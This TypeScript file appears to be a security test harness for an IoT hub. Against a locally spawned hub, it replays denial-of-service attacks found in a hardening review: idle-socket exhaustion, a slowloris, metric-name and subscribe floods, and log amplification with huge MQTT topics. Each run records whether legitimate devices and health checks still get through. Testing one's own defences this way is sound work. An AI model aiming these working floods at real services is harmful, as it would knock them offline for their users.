/**
 * `npm run attacks`: replays, at full size, the attacks of the hardening
 * review against a built hub in a child process with its default limits, and
 * prints what a real device and an operator saw meanwhile. The tests in
 * hub/test/security/attacks/ check the same defences at a bounded size;
 * this shows them at the size they were first found at.
 *   node --import=tsx hub/test/fuzz/replay-attacks.ts [--only idle,slowloris,metrics,subscribe,logs] [--hub-args="--max-connections 1000"] [--hub-nofile 8000]
 * --hub-nofile lowers the hub's open-files limit (prlimit, util-linux) and
 * not the replay's own, so that a slowloris of this machine's size reaches it.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import mqtt from 'mqtt';
import WebSocket from 'ws';
import { DASHBOARD_SUBPROTOCOL, type ProvisionResponse } from '@iot-hub/protocol';
import { spawnHub, type HubProcess } from '../helpers/hub-process.js';

const ADMIN = 'replay-admin-token-0123456789';
const sleep = (ms: number) => new Promise((r) => setTimeout(r, Math.max(0, ms)));
/** When, after an attack starts, a real device and an operator try their luck. */
const CHECKPOINTS_SEC = [3, 8, 15];

interface Target {
  hub: HubProcess;
  http: string;
  mqttUrl: string;
}

async function api(t: Target, method: string, path: string, body?: unknown): Promise<{ status: number; text: string }> {
  const res = await fetch(t.http + path, { method, headers: { authorization: `Bearer ${ADMIN}`, ...(body ? { 'content-type': 'application/json' } : {}) }, body: body ? JSON.stringify(body) : undefined });
  return { status: res.status, text: await res.text() };
}

async function provision(t: Target, id: string): Promise<ProvisionResponse> {
  const res = await api(t, 'POST', '/api/devices', { id, kind: 'sensor' });
  return JSON.parse(res.text) as ProvisionResponse;
}

function rssMb(t: Target): number {
  const m = /^VmRSS:\s+(\d+) kB/m.exec(readFileSync(`/proc/${t.hub.child.pid}/status`, 'utf8'));
  return m ? Math.round(Number(m[1]) / 1024) : NaN;
}

/** A probe's answer, or what it means when none came in time. */
function within<T>(ms: number, probe: Promise<T>): Promise<T | string> {
  return Promise.race([probe, sleep(ms).then(() => `no answer in ${ms / 1000} s`)]);
}

/** A real device's MQTT connect: 'ok' with the time it took, or the CONNACK code / error. */
async function deviceConnect(t: Target, d: ProvisionResponse): Promise<string> {
  const started = performance.now();
  try {
    const c = await mqtt.connectAsync(t.mqttUrl, { clientId: d.id, username: d.id, password: d.token, reconnectPeriod: 0, connectTimeout: 10_000 });
    await c.endAsync(true);
    return `ok in ${Math.round(performance.now() - started)} ms`;
  } catch (err) {
    const e = err as { code?: number; message: string };
    return e.code !== undefined ? `CONNACK ${e.code}` : e.message;
  }
}

async function healthz(t: Target): Promise<string> {
  const started = performance.now();
  try {
    const res = await fetch(`${t.http}/healthz`, { signal: AbortSignal.timeout(10_000) });
    return `${res.status} in ${Math.round(performance.now() - started)} ms`;
  } catch (err) {
    return (err as Error).message;
  }
}

function openFrom(port: number, localAddress: string): Promise<Socket | null> {
  return new Promise((resolve) => {
    const s = connect({ port, host: '127.0.0.1', localAddress });
    s.on('error', () => resolve(null));
    s.once('connect', () => resolve(s));
  });
}

/** Holds `count` sockets open from 127.0.0.2 … (keeping each re-opened when the hub closes it) until stop() is called. */
function holdSockets(port: number, count: number, addresses: number, onOpen: (s: Socket) => void = () => {}) {
  let running = true;
  const sockets = new Set<Socket>();
  let opened = 0;
  const keep = async (i: number) => {
    while (running) {
      const s = await openFrom(port, `127.0.0.${2 + (i % addresses)}`);
      if (!s) {
        await sleep(50);
        continue;
      }
      opened++;
      sockets.add(s);
      onOpen(s);
      await new Promise((r) => s.once('close', r));
      sockets.delete(s);
    }
  };
  const loops = Array.from({ length: count }, (_, i) => keep(i));
  return {
    get opened() {
      return opened;
    },
    get open() {
      return sockets.size;
    },
    async stop() {
      running = false;
      for (const s of sockets) s.destroy();
      await Promise.race([Promise.all(loops), sleep(2000)]);
    },
  };
}

async function idleConnections(t: Target): Promise<void> {
  const d = await provision(t, 'idle-victim');
  const port = t.hub.mqttPort;
  const held = holdSockets(port, 10_000, 11);
  const started = Date.now();
  for (const at of CHECKPOINTS_SEC) {
    await sleep(started + at * 1000 - Date.now());
    console.log(`  idle: ${held.open} sockets held without CONNECT (${held.opened} opened so far), at ${at} s a device connects: ${await within(12_000, deviceConnect(t, d))}`);
  }
  await held.stop();
}

async function slowloris(t: Target): Promise<void> {
  const d = await provision(t, 'slow-victim');
  const held = holdSockets(t.hub.httpPort, 15_000, 60, (s) => {
    s.write('GET /healthz HTTP/1.1\r\nHost: x\r\n');
    const drip = setInterval(() => s.write('X-a: b\r\n'), 5000);
    s.once('close', () => clearInterval(drip));
  });
  const started = Date.now();
  for (const at of CHECKPOINTS_SEC) {
    await sleep(started + at * 1000 - Date.now());
    console.log(`  slowloris: ${held.open} slow requests open (${held.opened} opened so far), at ${at} s /healthz: ${await within(12_000, healthz(t))}, a device connects: ${await within(12_000, deviceConnect(t, d))}`);
  }
  await held.stop();
}

async function metricNames(t: Target): Promise<void> {
  const attacker = await provision(t, 'many-names');
  const bystander = await provision(t, 'bystander');
  const a = await mqtt.connectAsync(t.mqttUrl, { clientId: attacker.id, username: attacker.id, password: attacker.token, reconnectPeriod: 1000 });
  const b = await mqtt.connectAsync(t.mqttUrl, { clientId: bystander.id, username: bystander.id, password: bystander.token, reconnectPeriod: 0 });
  let errors = 0;
  a.on('message', () => errors++);
  await a.subscribeAsync(`devices/${attacker.id}/errors`);
  let sent = 0;
  const until = Date.now() + 9000;
  let seq = 0;
  const bystanderRun = (async () => {
    for (let i = 0; i < 90; i++) {
      await b.publishAsync(`devices/${bystander.id}/telemetry`, JSON.stringify({ seq: i, metrics: { t: i } }), { qos: 1 });
      await sleep(100);
    }
  })();
  while (Date.now() < until) {
    const metrics: Record<string, number> = {};
    for (let i = 0; i < 64; i++) metrics[`m${sent + i}`] = 1;
    sent += 64;
    a.publish(`devices/${attacker.id}/telemetry`, JSON.stringify({ seq: seq++, metrics }), { qos: 0 });
    if (seq % 50 === 0) await sleep(1);
  }
  await bystanderRun;
  await sleep(1000);
  const device = JSON.parse((await api(t, 'GET', `/api/devices/${attacker.id}`)).text) as { latest: Record<string, unknown> };
  const list = await api(t, 'GET', '/api/devices');
  const history = JSON.parse((await api(t, 'GET', `/api/devices/${bystander.id}/telemetry?metric=t&maxPoints=1000`)).text) as { series: { points: unknown[] }[] };
  console.log(
    `  metric names: ${sent} names sent in 9 s; ${Object.keys(device.latest).length} kept, ${errors} errors heard; GET /api/devices is ${list.text.length} bytes; the bystander's 90 QoS 1 readings stored: ${history.series[0]?.points.length ?? 0}`,
  );
  await a.endAsync(true);
  await b.endAsync(true);
}

async function subscribeFlood(t: Target): Promise<void> {
  const before = rssMb(t);
  const ws = new WebSocket(t.http.replace('http', 'ws') + '/ws/dashboard', [DASHBOARD_SUBPROTOCOL, `bearer.${ADMIN}`]);
  await new Promise((r, j) => (ws.once('open', r), ws.once('error', j)));
  const answers = new Map<string, number>();
  ws.on('message', (data: Buffer) => {
    const m = JSON.parse(data.toString()) as { status?: string; error?: string };
    if (m.status) answers.set(m.error ?? m.status, (answers.get(m.error ?? m.status) ?? 0) + 1);
  });
  let id = 0;
  const until = Date.now() + 10_000;
  while (Date.now() < until && ws.readyState === ws.OPEN) {
    ws.send(JSON.stringify({ id: id++, op: 'subscribe', devices: Array.from({ length: 1000 }, (_, i) => `made-up-${id}-${i}`) }));
    if (id % 20 === 0) await sleep(5);
  }
  await sleep(1000);
  console.log(`  subscribe flood: ${id} subscribes of 1,000 made-up ids in 10 s; answers ${JSON.stringify(Object.fromEntries(answers))}; hub RSS ${before} → ${rssMb(t)} MB`);
  ws.close();
}

async function logAmplification(t: Target): Promise<void> {
  const d = await provision(t, 'long-topics');
  const bytesBefore = t.hub.stdoutLines.reduce((n, l) => n + l.length + 1, 0);
  const c = await mqtt.connectAsync(t.mqttUrl, { clientId: d.id, username: d.id, password: d.token, reconnectPeriod: 1000 });
  c.on('error', () => {});
  for (let i = 0; i < 60; i++) {
    if (c.connected) c.publish(`devices/${d.id}/${'x'.repeat(65_000)}`, '{}', { qos: 0 });
    await sleep(20);
  }
  await sleep(1500);
  const bytes = t.hub.stdoutLines.reduce((n, l) => n + l.length + 1, 0) - bytesBefore;
  console.log(`  log amplification: 60 publishes on 65,000-character topics wrote ${bytes} bytes of log`);
  await c.endAsync(true);
}

const ATTACKS: Record<string, (t: Target) => Promise<void>> = { idle: idleConnections, slowloris, metrics: metricNames, subscribe: subscribeFlood, logs: logAmplification };
const { values } = parseArgs({ options: { only: { type: 'string', default: Object.keys(ATTACKS).join(',') }, 'hub-args': { type: 'string', default: '' }, 'hub-nofile': { type: 'string' } } });
const hubArgs = values['hub-args'].split(' ').filter((a) => a !== '');

for (const name of values.only.split(',')) {
  const attack = ATTACKS[name];
  if (!attack) throw new Error(`unknown attack ${name}: choose from ${Object.keys(ATTACKS).join(', ')}`);
  const dir = mkdtempSync(join(tmpdir(), 'iot-hub-replay-'));
  const teardowns: (() => unknown)[] = [];
  try {
    const hub = await spawnHub({ teardown: (fn) => teardowns.push(fn) }, ['--data-dir', dir, '--admin-token', ADMIN, ...hubArgs]);
    if (values['hub-nofile'] !== undefined) execFileSync('prlimit', ['--pid', String(hub.child.pid), `--nofile=${values['hub-nofile']}:${values['hub-nofile']}`]);
    const target = { hub, http: `http://127.0.0.1:${hub.httpPort}`, mqttUrl: `mqtt://127.0.0.1:${hub.mqttPort}` };
    console.log(`${name}: hub pid ${hub.child.pid}, RSS ${rssMb(target)} MB`);
    await attack(target);
    const alive = hub.child.exitCode === null && hub.child.signalCode === null;
    console.log(`  hub ${alive ? `alive, RSS ${rssMb(target)} MB, /healthz ${await healthz(target)}` : `DIED: ${hub.stderr().slice(-500)}`}`);
  } finally {
    for (const fn of teardowns.reverse()) await fn();
    rmSync(dir, { recursive: true, force: true });
  }
}
